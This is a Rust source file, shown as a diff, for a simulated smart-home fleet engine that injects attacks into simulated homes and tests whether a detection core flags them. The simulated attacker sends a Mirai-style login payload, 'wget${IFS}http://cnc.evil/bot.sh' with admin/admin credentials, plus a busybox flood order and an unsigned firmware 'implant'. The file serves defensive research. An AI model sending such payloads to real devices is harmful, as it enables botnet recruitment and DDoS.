@@ -1,0 +1,284 @@
+//! The sharded fleet execution engine: a crossbeam channel-fed worker
+//! pool. Home specs flow down an unbounded MPMC job channel; each worker
+//! builds its homes locally (a home's Core is `Rc`-shared and never
+//! crosses threads), steps their event loops in slices, drains their
+//! evidence buses between slices with a bounded batch, and ships the
+//! finished [`HomeReport`]s to the aggregator over a *bounded* channel —
+//! a slow aggregator back-pressures the workers instead of buffering
+//! unboundedly.
+//!
+//! Determinism: each home's simulation depends only on its stamped seed,
+//! and the aggregator sorts reports by home id before correlating, so
+//! the fleet report is byte-identical for any worker count.
+
+use crate::aggregate::{FleetAggregator, FleetReport};
+use crate::metrics::FleetMetrics;
+use crate::spec::{FleetAttack, FleetSpec, HomeSpec, ATTACK_AT_S, LEARNING_END_S};
+use crossbeam::channel::{Receiver, Sender};
+use std::time::Instant;
+use xlf_core::framework::{HomeReport, HomeRunner, XlfHome};
+use xlf_simnet::{Context, Duration, Medium, Node, NodeId, Packet, SimTime, TimerId};
+
+const TIMER_GO: u64 = 900;
+const TIMER_FLOOD_ORDER: u64 = 901;
+
+/// WAN attacker node injecting this home's stamped attack.
+struct FleetAttacker {
+    gateway: NodeId,
+    victim_sink: NodeId,
+    attack: FleetAttack,
+}
+
+impl Node for FleetAttacker {
+    fn on_start(&mut self, ctx: &mut Context<'_>) {
+        ctx.set_timer(Duration::from_secs(ATTACK_AT_S), TIMER_GO);
+    }
+
+    fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
+        match (tag, self.attack) {
+            (TIMER_GO, FleetAttack::BotnetRecruit) => {
+                let login = Packet::new(
+                    ctx.id(),
+                    self.gateway,
+                    "login",
+                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
+                )
+                .with_meta("device", "cam")
+                .with_meta("user", "admin")
+                .with_meta("pass", "admin");
+                ctx.send(self.gateway, login);
+                ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
+            }
+            (TIMER_FLOOD_ORDER, FleetAttack::BotnetRecruit) => {
+                let order = Packet::new(
+                    ctx.id(),
+                    self.gateway,
+                    "attack-cmd",
+                    b"/bin/busybox MIRAI".to_vec(),
+                )
+                .with_meta("device", "cam")
+                .with_meta("target", &self.victim_sink.raw().to_string())
+                .with_meta("count", "300");
+                ctx.send(self.gateway, order);
+            }
+            (TIMER_GO, FleetAttack::FirmwareTamper) => {
+                let image = xlf_device::firmware::FirmwareImage::unsigned(
+                    xlf_device::firmware::Version(9, 9, 9),
+                    "mallory",
+                    b"BOTNET implant".to_vec(),
+                );
+                for i in 0..3u64 {
+                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
+                        .with_meta("device", "cam");
+                    ctx.send_after(self.gateway, ota, Duration::from_secs(i));
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// Passive WAN sink standing in for a DDoS victim.
+struct VictimSink;
+impl Node for VictimSink {}
+
+/// Builds one home from its stamped spec: template device mix + config,
+/// the §IV-C3 automation recipe, and the injected attacker.
+pub fn build_home(spec: &FleetSpec, hs: &HomeSpec) -> HomeRunner {
+    let template = &spec.templates[hs.template];
+    let mut config = template.config.clone();
+    config.learning_period = Duration::from_secs(LEARNING_END_S);
+    let mut home = XlfHome::build(hs.seed, config, &template.devices);
+
+    if template.automation {
+        install_auto_window(&mut home);
+    }
+
+    if hs.attack != FleetAttack::None {
+        let victim = home.net.add_node(Box::new(VictimSink));
+        home.net
+            .connect(victim, home.gateway, Medium::Wan.link().with_loss(0.0));
+        let attacker = home.net.add_node(Box::new(FleetAttacker {
+            gateway: home.gateway,
+            victim_sink: victim,
+            attack: hs.attack,
+        }));
+        home.net
+            .connect(attacker, home.gateway, Medium::Wan.link().with_loss(0.0));
+    }
+
+    HomeRunner::new(home)
+}
+
+/// Installs the §IV-C3 automation: open the window above 80°F (only
+/// spoofed/manipulated readings ever fire it).
+fn install_auto_window(home: &mut XlfHome) {
+    use xlf_cloud::smartapp::{Action, AppPermissions, Predicate, SmartApp, Trigger};
+    let cloud = home
+        .net
+        .node_as_mut::<xlf_cloud::CloudNode>(home.cloud)
+        .expect("cloud node");
+    cloud.cloud_mut().install_app(
+        SmartApp::new(
+            "auto-window",
+            AppPermissions::new().grant("window", xlf_cloud::Capability::Switch),
+        )
+        .rule(
+            Trigger {
+                device: "thermo".into(),
+                attribute: "temperature".into(),
+                predicate: Predicate::GreaterThan(80.0),
+            },
+            Action {
+                device: "window".into(),
+                command: "on".into(),
+            },
+        ),
+    );
+}
+
+/// Runs one home to the fleet horizon in evidence-bounded slices and
+/// returns its report.
+fn run_one_home(spec: &FleetSpec, hs: &HomeSpec, metrics: &FleetMetrics) -> HomeReport {
+    let t0 = Instant::now();
+    let mut runner = build_home(spec, hs);
+    metrics.build_us.observe(t0.elapsed().as_micros() as u64);
+
+    let t1 = Instant::now();
+    let horizon_us = spec.horizon.as_micros();
+    let slices = spec.slices.max(1) as u64;
+    for i in 1..=slices {
+        runner.run_until(SimTime::from_micros(horizon_us * i / slices));
+        // Bounded local drain: one chatty home ingests at most
+        // `drain_batch` items per slice; the rest stays queued.
+        let drained = runner
+            .home()
+            .core
+            .borrow_mut()
+            .drain_pending(spec.drain_batch);
+        metrics.evidence_drained.add(drained as u64);
+    }
+    metrics.step_us.observe(t1.elapsed().as_micros() as u64);
+
+    let t2 = Instant::now();
+    let report = runner.finish(SimTime::from_micros(horizon_us));
+    metrics.report_us.observe(t2.elapsed().as_micros() as u64);
+    metrics.homes_stepped.inc();
+    metrics.evidence_total.add(report.evidence_total as u64);
+    report
+}
+
+fn worker_loop(
+    spec: &FleetSpec,
+    jobs: Receiver<HomeSpec>,
+    results: Sender<(HomeSpec, HomeReport)>,
+    metrics: &FleetMetrics,
+) {
+    while let Ok(hs) = jobs.recv() {
+        let report = run_one_home(spec, &hs, metrics);
+        metrics.report_channel_depth.set(results.len() as u64);
+        if results.send((hs, report)).is_err() {
+            // Aggregator gone — nothing left to do.
+            break;
+        }
+    }
+}
+
+/// Runs the whole fleet: stamps the homes, shards them across
+/// `spec.workers` threads, aggregates the per-home reports into the
+/// fleet report. `metrics` is updated live from every worker.
+pub fn run_fleet(spec: &FleetSpec, metrics: &FleetMetrics) -> FleetReport {
+    let homes = spec.stamp();
+    let n = homes.len();
+
+    let (job_tx, job_rx) = crossbeam::channel::unbounded::<HomeSpec>();
+    for hs in homes {
+        job_tx.send(hs).expect("job receiver alive");
+    }
+    drop(job_tx); // workers exit once the queue runs dry
+
+    let (report_tx, report_rx) =
+        crossbeam::channel::bounded::<(HomeSpec, HomeReport)>(spec.report_capacity.max(1));
+
+    let collected: Vec<(HomeSpec, HomeReport)> = crossbeam::thread::scope(|s| {
+        for _ in 0..spec.workers.max(1) {
+            let jobs = job_rx.clone();
+            let results = report_tx.clone();
+            s.spawn(move || worker_loop(spec, jobs, results, metrics));
+        }
+        // Drop the originals so the report channel disconnects once the
+        // last worker finishes.
+        drop(report_tx);
+        drop(job_rx);
+
+        let mut collected = Vec::with_capacity(n);
+        while let Ok(item) = report_rx.recv() {
+            metrics.reports_received.inc();
+            collected.push(item);
+        }
+        collected
+    })
+    .expect("fleet worker scope");
+
+    let t0 = Instant::now();
+    let report = FleetAggregator::new(spec).aggregate(collected);
+    metrics
+        .aggregate_us
+        .observe(t0.elapsed().as_micros() as u64);
+    report
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use xlf_core::alerts::Severity;
+
+    #[test]
+    fn a_botnet_home_is_compromised_then_flagged_by_its_own_core() {
+        let spec = FleetSpec::new(5, 1);
+        let hs = HomeSpec {
+            id: 0,
+            seed: 1,
+            template: 0,
+            attack: FleetAttack::BotnetRecruit,
+        };
+        let metrics = FleetMetrics::new();
+        let report = run_one_home(&spec, &hs, &metrics);
+        assert!(report.warning_alerts > 0, "report: {report:?}");
+        assert_eq!(report.top_device, "cam");
+        assert_eq!(metrics.homes_stepped.get(), 1);
+        let _ = Severity::Warning;
+    }
+
+    #[test]
+    fn benign_homes_stay_quiet() {
+        let spec = FleetSpec::new(5, 1);
+        let hs = HomeSpec {
+            id: 0,
+            seed: 2,
+            template: 0,
+            attack: FleetAttack::None,
+        };
+        let report = run_one_home(&spec, &hs, &FleetMetrics::new());
+        assert_eq!(report.critical_alerts, 0);
+        assert!(report.quarantined.is_empty());
+        assert!(report.forwarded > 0);
+    }
+
+    #[test]
+    fn sliced_runs_match_single_shot_runs() {
+        let hs = HomeSpec {
+            id: 0,
+            seed: 9,
+            template: 0,
+            attack: FleetAttack::BotnetRecruit,
+        };
+        let mut sliced_spec = FleetSpec::new(5, 1);
+        sliced_spec.slices = 16;
+        let mut oneshot_spec = FleetSpec::new(5, 1);
+        oneshot_spec.slices = 1;
+        let sliced = run_one_home(&sliced_spec, &hs, &FleetMetrics::new());
+        let oneshot = run_one_home(&oneshot_spec, &hs, &FleetMetrics::new());
+        assert_eq!(sliced, oneshot, "slicing must not change the outcome");
+    }
+}
